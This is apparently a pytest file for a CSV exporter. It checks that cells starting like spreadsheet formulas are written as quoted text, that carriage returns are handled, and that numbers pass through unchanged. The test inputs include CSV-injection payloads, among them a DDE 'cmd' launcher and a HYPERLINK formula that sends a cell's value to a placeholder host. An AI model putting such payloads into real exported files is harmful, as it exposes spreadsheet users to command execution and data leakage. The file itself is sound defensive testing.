"""Exported CSV: no name is a formula, numbers stay numbers, and what is written is read again."""

import polars as pl
import pytest

from creditlink.kit.files.csvexport import csv_of, write_csv
from creditlink.kit.files.csvfile import rows
from creditlink.kit.files.textfile import decode, read_file

pytestmark = pytest.mark.pure


def read_back(frame):
    return [row.values for row in rows(decode(csv_of(frame).encode()), known=None, needed=tuple(frame.columns))]


@pytest.mark.parametrize(
    "name",
    ["=HYPERLINK(\"http://x/?\"&A1,\"甲\")", "+1+cmd|' /C calc'!A0", "-1+2", "@SUM(1+1)", "\t=1", " =1+1", "\n=1",
     "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u2212A1", "\u200b=1", "=", "-", "+86 757"],
)  # fmt: skip
def test_what_begins_as_a_formula_is_text(name):
    assert read_back(pl.DataFrame({"name": [name]})) == [{"name": f"'{name}"}]


def test_a_carriage_return_neither_begins_a_formula_nor_ends_a_line():
    written = csv_of(pl.DataFrame({"name": ["\r=1", "a\r=b"], "n": [1, 2]}))
    assert written == '"name","n"\n"\'\r=1",1\n"a\r=b",2\n'


def test_categories_are_texts_too():
    frame = pl.DataFrame({"grade": pl.Series(["=A", "B"], dtype=pl.Enum(["=A", "B"]))})
    assert [row["grade"] for row in read_back(frame)] == ["'=A", "B"]


def test_numbers_and_plain_names_stay_as_they_are():
    frame = pl.DataFrame({"n": [-1.5, 2.0], "text": ["-12.5", "+3e4"], "name": ["甲=乙", "a@b"], "none": [None, None]})
    assert csv_of(frame).splitlines() == ["n,text,name,none", "-1.5,-12.5,甲=乙,", "2.0,+3e4,a@b,"]


def test_a_mark_is_written_for_spreadsheets_and_read_again(tmp_path):
    write_csv(pl.DataFrame({"name": ["甲"]}), tmp_path / "a.csv", mark=True)
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbfname\n")
    assert read_file(tmp_path / "a.csv").whole() == "name\n甲\n"
